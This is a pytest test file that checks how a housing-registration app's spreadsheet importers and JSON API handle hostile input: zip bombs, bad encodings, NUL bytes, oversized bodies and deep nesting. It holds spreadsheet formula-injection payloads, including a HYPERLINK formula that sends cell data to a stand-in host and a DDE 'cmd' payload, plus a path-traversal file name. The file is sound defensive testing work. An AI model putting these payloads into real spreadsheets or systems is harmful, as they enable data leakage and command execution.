"""Hostile input to the housing importers — the units sheet (房源表), the sales office's
registrations sheet — and to the registration API: wrong encodings, wrong/missing/duplicate
headers, formulas, a million empty rows, an XLSX zip bomb and a sparse-sheet bomb, files that
are not what their name says, truncated workbooks, huge cells, NUL bytes, too many rows, over
the size limit; JSON that is malformed, too deep, too big, or carries NUL and lone surrogates.

Each either imports correctly or fails with a bilingual error naming the row, column and value
(or what is wrong with the file); a failed import leaves the units, the applications and the
audit chain exactly as they were. And the published roster/results CSVs, which are hashed byte
for byte and never neutralised, hold nothing a spreadsheet could run as a formula.
docs/reliability.md lists these cases with their node ids."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import date
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gaoxin.common.actors import OPERATOR
from gaoxin.common.errors import (
    WORKBOOK_INVALID,
    WORKBOOK_TOO_COMPLEX,
    WORKBOOK_TOO_LARGE,
    ErrorCode,
    GaoxinError,
)
from gaoxin.common.models import AuditEvent
from gaoxin.housing import errors, selectors, services
from gaoxin.housing.models import Application, ApplicationMember, SaleBatch, Unit
from gaoxin.housing.registration import SHEET_COLUMNS
from gaoxin.housing.unitsheet import MAX_ROWS
from gaoxin.testing import hostile_files as hostile

from .builders import draft_batch, published_batch
from .factories import _admin, person_id, staff_of, units_csv

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
UNIT_HEADER = ["楼栋", "单元", "房号", "建筑面积", "总价"]
UNITS = [["1", "1", "101", "89.50", "1500000"], ["1", "1", "102", "120.25", "2100000"]]
REG_HEADER = list(SHEET_COLUMNS)


def households(start: int = 1, count: int = 2) -> list[list[str]]:
    return [
        [f"申请人{n}", person_id(400 + n), "13900000000", "", "", "", "", "是", "否"]
        for n in range(start, start + count)
    ]


@pytest.fixture
def draft():
    batch = draft_batch(code="HX26", units=0)
    services.units_import(actor=_admin(), batch=batch, data=units_csv(3), filename="ok.csv")
    return batch


@pytest.fixture
def office(make_user):
    user = make_user("developer")
    batch = published_batch(code="HR26")
    staff_of(batch.project.sales_office, user)
    return batch, user


def import_units(batch: SaleBatch, data: bytes, name: str = "房源.xlsx") -> int:
    return services.units_import(actor=_admin(), batch=batch, data=data, filename=name)


def import_households(office: tuple[SaleBatch, Any], data: bytes, name: str = "登记.csv") -> int:
    batch, user = office
    return services.applications_import(actor=user, batch=batch, data=data, filename=name)


def state() -> tuple[Any, ...]:
    return (
        sorted(Unit.objects.values_list("batch_id", "building", "room", "price")),
        Application.objects.count(),
        ApplicationMember.objects.count(),
        AuditEvent.objects.count(),
    )


@contextmanager
def refused(error: ErrorCode, *phrases: str) -> Iterator[GaoxinError]:
    """The call raises `error`, its Chinese message holds every phrase, it has an English
    message, and units, applications and the audit chain are exactly as before."""
    before = state()
    with pytest.raises(GaoxinError) as raised:
        yield raised  # type: ignore[misc]
    assert raised.value.error == error, raised.value
    zh, en = raised.value.message("zh"), raised.value.message("en")
    for phrase in phrases:
        assert phrase in zh, (phrase, zh)
    assert en and en != zh
    assert state() == before
    call_command("audit_verify", stdout=io.StringIO())


# -- both sheets: a valid file in every form imports -------------------------------------------

FORMS: dict[str, Callable[[list[list[str]]], bytes]] = {
    "utf-8": lambda rows: hostile.encoded(rows, "utf-8"),
    "utf-8-bom": lambda rows: hostile.encoded(rows, "utf-8-sig"),
    "gbk": lambda rows: hostile.encoded(rows, "gbk"),
    "utf-16-tabs": lambda rows: hostile.encoded(rows, "utf-16"),
    "xlsx": lambda rows: hostile.xlsx(rows),
    "xlsx-rows-start-at-5": lambda rows: hostile.xlsx(rows, empty_rows_before=4),
}


@pytest.mark.parametrize("form", list(FORMS))
@pytest.mark.parametrize("name", ["房源.xlsx", "房源.csv", "units", "../../etc/passwd"])
def test_units_in_every_encoding_and_under_any_name(draft, form, name):
    assert import_units(draft, FORMS[form]([UNIT_HEADER, *UNITS]), name) == 2
    assert sorted(draft.units.values_list("room", flat=True)) == ["101", "102"]


@pytest.mark.parametrize("form", list(FORMS))
def test_registrations_in_every_encoding(office, form):
    assert import_households(office, FORMS[form]([REG_HEADER, *households()])) == 2


def test_a_formula_cell_imports_the_value_people_see(draft):
    data = hostile.xlsx([UNIT_HEADER, UNITS[0]], formulas={(1, 4): "=1500000*1"})
    assert import_units(draft, data) == 1
    assert draft.units.get().price == 1500000


@pytest.mark.slow
def test_a_million_empty_rows_do_not_count_and_rows_keep_their_numbers(draft, office):
    """1,000,000 blank lines (1 MB) between the data: the rows after them import, and an error
    after them names its real row number."""
    blank = "\r\n" * 1_000_000
    text = hostile.csv_text([UNIT_HEADER, UNITS[0]]) + blank + hostile.csv_text([UNITS[1]])
    assert import_units(draft, text.encode()) == 2
    bad = hostile.csv_text([UNIT_HEADER, UNITS[0]]) + blank + "1,1,103,abc,1\r\n"
    with refused(errors.UNITS_FILE_INVALID, "第 1000003 行“建筑面积”列", "abc"):
        import_units(draft, bad.encode())
    rows: list[list[Any]] = [REG_HEADER, households(1, 1)[0], *[[""]] * 1_000_000]
    rows.append(households(2, 1)[0])
    assert import_households(office, hostile.xlsx(rows)) == 2


# -- files that are not what they say, damaged, or built to exhaust memory ----------------------


def _truncated() -> bytes:
    data = hostile.xlsx([UNIT_HEADER, *UNITS])
    return data[: len(data) // 2]


FILE_CASES: dict[str, tuple[Callable[[], bytes], ErrorCode, str]] = {
    "png-named-xlsx": (lambda: hostile.PNG, errors.SHEET_UNREADABLE, "二进制"),
    "zip-of-text-named-xlsx": (
        lambda: hostile.zip_of_text("a.txt"),
        WORKBOOK_INVALID,
        "没有 Excel 工作簿",
    ),
    "truncated-xlsx": (_truncated, WORKBOOK_INVALID, "不完整"),
    "xlsx-zip-bomb-1gb": (
        lambda: hostile.zip_bomb_xlsx(1024 * MB),
        WORKBOOK_TOO_LARGE,
        "上限 100 MB",
    ),
    "xlsx-lying-about-its-size": (
        lambda: hostile.zip_bomb_xlsx(1024 * MB, declared=10_000),
        WORKBOOK_INVALID,
        "larger than its declared",
    ),
    "sparse-a1-xfd1048576": (
        lambda: hostile.sparse_xlsx(UNIT_HEADER),
        WORKBOOK_TOO_COMPLEX,
        "1048576",
    ),
    "empty": (lambda: b"", errors.SHEET_UNREADABLE, "文件为空"),
    "header-only": (
        lambda: "楼栋,房号,建筑面积,总价\r\n\r\n".encode(),
        errors.SHEET_NO_ROWS,
        "没有数据行",
    ),
    "undecodable": (
        lambda: "楼栋,房号\n".encode() + b"\x80\xff\x80\n",
        errors.SHEET_ENCODING,
        "第 2 行",
    ),
    "nul-in-csv": (
        lambda: "楼栋,房号,建筑面积,总价\n1,1\x0001,90,1\n".encode(),
        errors.SHEET_UNREADABLE,
        "二进制",
    ),
    "utf-16-without-bom": (
        lambda: "楼栋\t房号\n1\t101\n".encode("utf-16-le"),
        errors.SHEET_UNREADABLE,
        "二进制",
    ),
    "over-5-mb": (lambda: b"1," * (3 * MB), errors.FILE_TOO_LARGE, "超过上限 5 MB"),
}


@pytest.mark.parametrize("case", list(FILE_CASES))
def test_hostile_unit_files_fail_clearly_and_change_nothing(draft, case):
    build, error, phrase = FILE_CASES[case]
    with refused(error, phrase):
        import_units(draft, build())


@pytest.mark.parametrize("case", list(FILE_CASES))
def test_hostile_registration_files_fail_clearly_and_change_nothing(office, case):
    build, error, phrase = FILE_CASES[case]
    if case == "header-only":
        build = lambda: ("申请人姓名,申请人身份证号\r\n").encode()  # noqa: E731
    with refused(error, phrase):
        import_households(office, build())


# -- headers and cells ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("head", "error", "phrase"),
    [
        (["楼栋", "房号", "建筑面积"], errors.SHEET_HEADERS, "缺少列：总价"),
        (["Building", "Room", "Area", "Price"], errors.SHEET_HEADERS, "缺少列：楼栋"),
        ([*UNIT_HEADER, "房号"], errors.SHEET_DUPLICATE_COLUMN, "“房号”列出现了不止一次"),
    ],
)
def test_unit_headers(draft, head, error, phrase):
    with refused(error, phrase):
        import_units(draft, hostile.encoded([head, ["1"] * len(head)], "utf-8"))


def test_registration_headers(office):
    with refused(errors.SHEET_HEADERS, "缺少列：申请人身份证号"):
        import_households(office, hostile.encoded([["申请人姓名"], ["张三"]], "utf-8"))
    with refused(errors.SHEET_DUPLICATE_COLUMN, "申请人身份证号"):
        import_households(
            office, hostile.encoded([[*REG_HEADER, "申请人身份证号"], households()[0]], "utf-8")
        )


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "=cmd|' /C calc'!A0",
        "+1-1",
        "-1+1",
        "@SUM(A1)",
    ],
)
def test_formula_text_is_refused_in_unit_labels_and_names(draft, office, value):
    with refused(errors.UNITS_FILE_INVALID, "第 3 行“房号”列", value[:20]):
        import_units(draft, hostile.xlsx([UNIT_HEADER, UNITS[0], ["1", "1", value, "90", "1"]]))
    row = households(3, 1)[0]
    row[0] = value
    with refused(errors.ROW_INVALID, "第 3 行", "申请人姓名", "不能以 = + - @ 开头"):
        import_households(office, hostile.xlsx([REG_HEADER, households(1, 1)[0], row]))


def test_nul_and_control_characters_in_a_workbook_cell_are_named(draft, office):
    with refused(errors.ROW_INVALID, "第 2 行", "“房号”列", "\\x00", "控制字符"):
        import_units(draft, hostile.xlsx([UNIT_HEADER, ["1", "1", "1\x0001", "90", "1"]]))
    row = households(1, 1)[0]
    row[0] = "张\x1b[31m三"
    with refused(errors.ROW_INVALID, "第 2 行", "申请人姓名", "\\x1b"):
        import_households(office, hostile.xlsx([REG_HEADER, row]))


def test_huge_cells(draft, office):
    csv_cell = hostile.csv_text([UNIT_HEADER, ["1", "1", "x" * 200_000, "90", "1"]]).encode()
    with refused(errors.SHEET_BAD_CSV, "第 2 行", "field larger than field limit"):
        import_units(draft, csv_cell)
    with refused(errors.UNITS_FILE_INVALID, "第 2 行“楼栋”列"):
        import_units(draft, hostile.xlsx([UNIT_HEADER, ["楼" * 32_000, "1", "101", "90", "1"]]))
    row = households(1, 1)[0]
    row[0] = "名" * 32_000
    with refused(errors.ROWS_INVALID, "第 2 行", "不超过 50 个字"):
        import_households(office, hostile.xlsx([REG_HEADER, row]))


def test_too_many_rows_is_an_error_not_a_silent_cut(draft):
    rows = [UNIT_HEADER] + [["9", "1", str(n), "90", "1"] for n in range(MAX_ROWS + 1)]
    with refused(errors.SHEET_TOO_MANY_ROWS, f"超过 {MAX_ROWS} 行"):
        import_units(draft, hostile.encoded(rows, "utf-8"))


def test_a_phone_number_that_does_not_fit_is_named_not_a_database_error(office):
    row = households(1, 1)[0]
    row[2] = "1" * 25
    with refused(errors.ROWS_INVALID, "第 2 行", "手机号码", "1" * 24):
        import_households(office, hostile.encoded([REG_HEADER, row], "utf-8"))


def test_the_upload_is_refused_by_size_before_it_is_read(client, draft):
    client.force_login(_admin())
    big = SimpleUploadedFile("房源.csv", b"1," * (3 * MB))
    page = client.post(f"/housing/manage/{draft.code}/units/", {"file": big}, follow=True)
    assert "超过上限 5 MB" in page.content.decode()
    assert draft.units.count() == 3


# -- the registration API ----------------------------------------------------------------------


@pytest.fixture
def api(make_user) -> tuple[Client, str]:
    from gaoxin.accounts.services import api_token_issue

    system = make_user("developer")
    batch = published_batch(code="API26")
    staff_of(batch.project.sales_office, system)
    raw = api_token_issue(actor=OPERATOR, user=system, name="销售系统")[1]
    client = Client(headers={"Authorization": f"Bearer {raw}"}, raise_request_exception=False)
    return client, f"/api/housing/batches/{batch.code}/registrations"


def member(relation: str = "applicant", name: str = "张三", number: str | None = None) -> dict:
    return {"relation": relation, "name": name, "id_number": number or person_id(5)}


API_CASES: dict[str, tuple[bytes, int, str]] = {
    "6-mb-body": (b'{"members": [], "phone": "' + b"1" * (6 * MB) + b'"}', 413, "body_too_large"),
    "not-json": (b"{members: ", 400, "body_unreadable"),
    "gbk-json": (
        json.dumps({"members": [member()]}, ensure_ascii=False).encode("gbk"),
        400,
        "body_unreadable",
    ),
    "nested-200k-deep": (b"[" * 200_000 + b"]" * 200_000, 400, "body_unreadable"),
    "no-members": (b'{"members": []}', 422, "housing.household_shape"),
    "two-applicants": (
        json.dumps({"members": [member(), member(number=person_id(6))]}).encode(),
        422,
        "housing.household_shape",
    ),
    "eleven-children": (
        json.dumps(
            {
                "members": [member()]
                + [member("child", "子", person_id(n, date(2015, 1, 1))) for n in range(11)]
            }
        ).encode(),
        422,
        "housing.household_shape",
    ),
    "nul-in-name": (
        json.dumps({"members": [member(name="张\u0000三")]}).encode(),
        422,
        "housing.name_invalid",
    ),
    "lone-surrogate-in-name": (
        b'{"members": [{"relation": "applicant", "name": "\\ud800", "id_number": "'
        + person_id(5).encode()
        + b'"}]}',
        422,
        "housing.name_invalid",
    ),
    "phone-30-digits": (
        json.dumps({"members": [member()], "phone": "1" * 30}).encode(),
        422,
        "housing.phone_invalid",
    ),
    "formula-pool": (
        json.dumps({"members": [member()], "pools": ["=1+1"]}).encode(),
        422,
        "housing.unknown_pool",
    ),
    "unknown-relation": (
        json.dumps({"members": [member("uncle")]}).encode(),
        422,
        "invalid_input",
    ),
}


@pytest.mark.parametrize("case", list(API_CASES))
def test_hostile_registration_requests_get_a_bilingual_json_error(api, case):
    client, path = api
    body, status, code = API_CASES[case]
    before = state()
    response = client.post(path, body, content_type="application/json")
    assert response.status_code == status, response.content[:300]
    answer = response.json()
    assert answer["code"] == code
    assert answer["message_zh"] and answer["message_en"]
    assert state() == before


def test_nul_in_any_url_is_a_400_not_a_database_error(client):
    for url in [
        "/api/housing/batches/%00",
        "/api/audit/events?action=%00",
        "/api/registry/enterprises?q=a%00",
        "/housing/%00/",
        "/housing/applications/%00/",
    ]:
        response = Client(raise_request_exception=False).get(url)
        assert response.status_code == 400, url
        assert "NUL" in response.content.decode()


TEXT = st.text(st.characters(codec="utf-8") | st.sampled_from(["\x00", "\ud800", "=", "\u202e"]))
NAME = st.sampled_from(["张三", "李四", "Zhang San"]) | TEXT
OTHER = st.tuples(st.sampled_from(["spouse", "child", "applicant"]), NAME, st.booleans())


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    applicant=NAME,
    applicant_valid=st.booleans() | st.just(True),
    others=st.lists(OTHER, max_size=3),
    junk=TEXT,
    serial=st.integers(0, 9999),
    pools=st.lists(st.sampled_from(["first_home", "key_industry", "general"]) | TEXT, max_size=3),
    phone=st.just("") | st.from_regex(r"\+?[0-9]{1,25}", fullmatch=True) | TEXT,
)
def test_any_registration_payload_is_answered_and_never_half_written(
    api, applicant, applicant_valid, others, junk, serial, pools, phone
):
    """Households that are mostly valid, with hostile text anywhere: 201/200 with a receipt,
    or a 4xx JSON error and no new application, member or audit event. Never a 500."""
    client, path = api

    def number(i: int, relation: str, valid: bool) -> str:
        born = date(2015, 1, 1) if relation == "child" else date(1990, 1, 1)
        return person_id(serial * 4 + i, born) if valid else junk

    members = [
        {"relation": "applicant", "name": applicant, "id_number": number(0, "", applicant_valid)}
    ]
    members += [
        {"relation": rel, "name": name, "id_number": number(i, rel, ok)}
        for i, (rel, name, ok) in enumerate(others, start=1)
    ]
    body = json.dumps({"members": members, "pools": pools, "phone": phone})
    before = state()
    response = client.post(path, body, content_type="application/json")
    assert response.status_code in {200, 201, 400, 409, 422}, response.content[:300]
    answer = response.json()
    if response.status_code in {200, 201}:
        assert Application.objects.filter(number=answer["number"]).exists()
    else:
        assert answer["code"] and answer["message_zh"] and answer["message_en"]
        assert state() == before


# -- the published CSVs carry nothing a spreadsheet would run ----------------------------------


@pytest.fixture
def project():
    return draft_batch(code="CODEOK", units=0).project


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(code=st.text(max_size=16) | st.from_regex(r"[A-Za-z0-9]{2,12}", fullmatch=True))
def test_batch_codes_are_letters_and_digits_only(project, code):
    """The code prefixes every registration number in the published CSVs: whatever reaches the
    service, only 2-12 ASCII letters and digits get through."""
    window = SaleBatch.objects.get(code="CODEOK")
    try:
        created = services.batch_create(
            actor=OPERATOR,
            project=project,
            name="x",
            code=code,
            registration_opens_at=window.registration_opens_at,
            registration_closes_at=window.registration_closes_at,
        )
    except GaoxinError as error:
        assert error.error in {errors.BATCH_CODE_INVALID, errors.BATCH_CODE_TAKEN}
        assert error.message("zh") and error.message("en")
        return
    assert re.fullmatch(r"[A-Z0-9]{2,12}", created.code)
    created.delete()


def test_roster_and_results_csvs_hold_only_numbers_codes_and_digests(make_user):
    """Never neutralised (they are hashed byte for byte); safe because every field is a
    registration number, a pool or round name, a hex digest or a number."""
    from .builders import drawn_batch

    batch = drawn_batch(make_user, households=12)
    draw = batch.draw
    roster = bytes(batch.roster.csv).decode()
    results = selectors.results_csv(draw).decode()
    fields = [
        field
        for text in (roster, results)
        for row in list(csv.reader(io.StringIO(text)))[1:]
        for field in row
    ]
    assert len(fields) > 12 * 3
    safe = r"([A-Z0-9]{2,12}-[0-9]{6}|[a-z][a-z0-9_;]*|[0-9a-f]{16,64}|[0-9]+|)"
    assert all(re.fullmatch(safe, f) for f in fields), [
        f for f in fields if not re.fullmatch(safe, f)
    ]
    assert not any(f.startswith(("=", "+", "-", "@", "\t", "\r")) for f in fields)


# -- fuzzing: any bytes give units, households or a named error ----------------------------------

CELL = st.text(st.characters(codec="utf-8") | st.sampled_from(["\x00", ",", '"', "\n", "="]))
SHEETS = (
    st.binary(max_size=3000)
    | st.lists(st.lists(CELL, max_size=7), max_size=12).map(
        lambda rows: hostile.csv_text([UNIT_HEADER, *rows]).encode()
    )
    | st.lists(st.lists(CELL, max_size=10), max_size=12).map(
        lambda rows: hostile.csv_text([REG_HEADER, *rows]).encode("utf-8", "surrogatepass")
    )
)


@settings(max_examples=150, deadline=None)
@given(data=SHEETS)
def test_the_sheet_readers_never_fail_with_anything_but_a_named_error(data):
    """Pure parsing (no database): random bytes, and CSV with random cells under each header."""
    from gaoxin.housing.registration import parse_registrations
    from gaoxin.housing.spreadsheet import read_table
    from gaoxin.housing.unitsheet import parse_units

    for parse in (parse_units, lambda d: parse_registrations(read_table(d, max_rows=20_000))):
        try:
            parse(data)
        except GaoxinError as error:
            assert error.message("zh") and error.message("en")
